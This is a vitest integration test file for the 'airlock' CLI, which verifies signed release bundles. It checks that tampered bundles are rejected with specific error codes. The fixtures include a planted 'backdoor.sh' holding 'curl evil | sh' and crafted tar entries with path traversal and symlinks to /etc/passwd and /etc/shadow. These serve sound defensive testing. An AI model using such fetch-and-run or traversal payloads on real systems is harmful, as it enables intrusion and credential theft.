/**
 * Issue 2's tamper cases, end to end through the real CLI: every altered bundle is
 * rejected with its own code and exit status, naming the file at fault.
 */
import { copyFile, mkdir, mkdtemp, readdir, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { BundleReader } from '../../src/bundle/reader.js';
import { exitCodeFor } from '../../src/exit-codes.js';
import type { ErrorCode } from '../../src/base/errors.js';
import { runCli } from '../support/cli.js';
import { bundleEntries, craftTar, flipByte, type CraftEntry } from '../support/tar-craft.js';

const PASS = 'correct horse battery staple';
const env = { AIRLOCK_PASSPHRASE: PASS, SOURCE_DATE_EPOCH: '1767225600' };
let dir: string;
let good: string;
let trust: string;
let config: string;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'airlock-tamper-'));
  trust = join(dir, 'trust');
  await mkdir(trust);
  for (const name of ['build', 'stranger']) {
    const made = await runCli(['keys', 'generate', '--name', name, '--out', join(dir, 'keys')], { env });
    expect(made.code, made.stderr).toBe(0);
  }
  await copyFile(join(dir, 'keys', 'build.pub.pem'), join(trust, 'build.pub.pem'));
  const built = await runCli(['build', 'manifests/shop.yaml', '--key', join(dir, 'keys', 'build.key.pem'), '--out', dir], { env });
  expect(built.code, built.stderr).toBe(0);
  good = join(dir, (await readdir(dir)).find((file) => file.endsWith('.airlock'))!);
  const reader = await BundleReader.open(good);
  config = reader.entries.find((entry) => entry.path.startsWith('configs/'))!.path;
  await reader.close();
});

let counter = 0;
async function variant(make: (file: string) => Promise<void>): Promise<string> {
  const file = join(dir, `variant-${counter++}.airlock`);
  await copyFile(good, file);
  await make(file);
  return file;
}

async function rewrite(file: string, change: (entries: CraftEntry[]) => CraftEntry[]): Promise<void> {
  await writeFile(file, craftTar(change(await bundleEntries(file))));
}

async function expectRejected(file: string, code: ErrorCode, names: string): Promise<void> {
  const result = await runCli(['verify', file, '--trust', trust]);
  expect(result.stderr).toContain(`${code}:`);
  expect(result.stderr).toContain(names);
  expect(result.code).toBe(exitCodeFor(code));
  expect(result.stdout).toContain('REJECTED');
}

describe('airlock verify', () => {
  it('accepts the untouched bundle and says who signed it', async () => {
    const result = await runCli(['verify', good, '--trust', trust]);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toContain('VERIFIED');
    const json = await runCli(['verify', good, '--trust', trust, '--json']);
    const report = JSON.parse(json.stdout);
    expect(report.ok).toBe(true);
    expect(report.signers).toHaveLength(1);
    expect(report.signers[0].status).toBe('valid');
    expect(report.policy.met).toBe(true);
  });

  it('names a payload file with one byte flipped', async () => {
    await expectRejected(await variant((f) => flipByte(f, config)), 'DIGEST_MISMATCH', config);
  });

  it('names airlock.json with one byte flipped', async () => {
    await expectRejected(await variant((f) => flipByte(f, 'airlock.json', 3)), 'DIGEST_MISMATCH', 'airlock.json');
  });

  it('rejects a flipped byte in SHA256SUMS as a bad signature', async () => {
    await expectRejected(await variant((f) => flipByte(f, 'SHA256SUMS', 70)), 'SIGNATURE_INVALID', 'signatures/');
  });

  it('rejects a flipped byte in the signature', async () => {
    const sig = (await bundleEntries(good)).find((e) => e.path.endsWith('.sig'))!.path;
    await expectRejected(await variant((f) => flipByte(f, sig, 10)), 'SIGNATURE_INVALID', sig);
  });

  it('names a file that was added', async () => {
    // With the release's own header time, as an attacker would copy it: the file itself is what is wrong.
    const file = await variant((f) => rewrite(f, (entries) => [...entries, { path: 'configs/prod/backdoor.sh', data: Buffer.from('curl evil | sh\n'), mtime: entries[0]!.mtime }]));
    await expectRejected(file, 'FILE_EXTRA', 'configs/prod/backdoor.sh');
  });

  it('names a file that was removed', async () => {
    await expectRejected(await variant((f) => rewrite(f, (entries) => entries.filter((e) => e.path !== config))), 'FILE_MISSING', config);
  });

  it('names both sides of a renamed file', async () => {
    const file = await variant((f) => rewrite(f, (entries) => entries.map((e) => (e.path === config ? { ...e, path: `${config}.renamed` } : e))));
    const result = await runCli(['verify', file, '--trust', trust, '--json']);
    const report = JSON.parse(result.stdout);
    expect(report.problems.map((p: { code: string; path: string }) => `${p.code} ${p.path}`)).toEqual([`FILE_MISSING ${config}`, `FILE_EXTRA ${config}.renamed`]);
    expect(result.code).toBe(exitCodeFor('FILE_MISSING'));
  });

  it('names a duplicated file', async () => {
    const file = await variant((f) => rewrite(f, (entries) => [...entries, entries.find((e) => e.path === config)!]));
    await expectRejected(file, 'FILE_DUPLICATE', config);
  });

  it('rejects a truncated bundle, naming the entry cut short', async () => {
    const file = await variant(async (f) => {
      const data = await readFile(f);
      await writeFile(f, data.subarray(0, Math.floor(data.length * 0.6)));
    });
    const result = await runCli(['verify', file, '--trust', trust]);
    expect(result.stderr).toMatch(/BUNDLE_TRUNCATED: .*(cut short|end-of-archive)/);
    expect(result.code).toBe(exitCodeFor('BUNDLE_TRUNCATED'));
  });

  it('rejects a bundle signed only by a key the trust store does not hold', async () => {
    const built = await runCli(['build', 'manifests/shop.yaml', '--key', join(dir, 'keys', 'stranger.key.pem'), '--out', join(dir, 'stranger')], { env });
    expect(built.code, built.stderr).toBe(0);
    const file = join(dir, 'stranger', good.split('/').pop()!);
    await expectRejected(file, 'SIGNATURE_UNTRUSTED', 'unknown-key');
  });

  it('rejects an expired bundle', async () => {
    const result = await runCli(['verify', good, '--trust', trust, '--at', '2999-01-01T00:00:00Z']);
    const manifest = JSON.parse((await runCli(['inspect', good, '--json'])).stdout);
    if (manifest.release.expires === null) throw new Error('the example manifest must set expires for this test');
    expect(result.stderr).toContain('EXPIRED:');
    expect(result.code).toBe(exitCodeFor('EXPIRED'));
  });

  for (const [what, entry, code] of [
    ['a ../ path', { path: '../../etc/cron.d/evil', data: Buffer.from('x') }, 'UNSAFE_PATH'],
    ['an absolute path', { path: '/etc/passwd', data: Buffer.from('x') }, 'UNSAFE_PATH'],
    ['a symlink', { path: 'configs/prod/link', type: 'SymbolicLink', linkpath: '/etc/shadow' }, 'UNSAFE_ENTRY'],
    ['a hard link', { path: 'configs/prod/hard', type: 'Link', linkpath: 'SHA256SUMS' }, 'UNSAFE_ENTRY'],
    ['a device', { path: 'configs/prod/dev', type: 'CharacterDevice' }, 'UNSAFE_ENTRY'],
  ] as const) {
    it(`rejects a crafted tar with ${what}`, async () => {
      const file = await variant((f) => rewrite(f, (entries) => [...entries, entry as CraftEntry]));
      await expectRejected(file, code, entry.path);
    });
  }
});
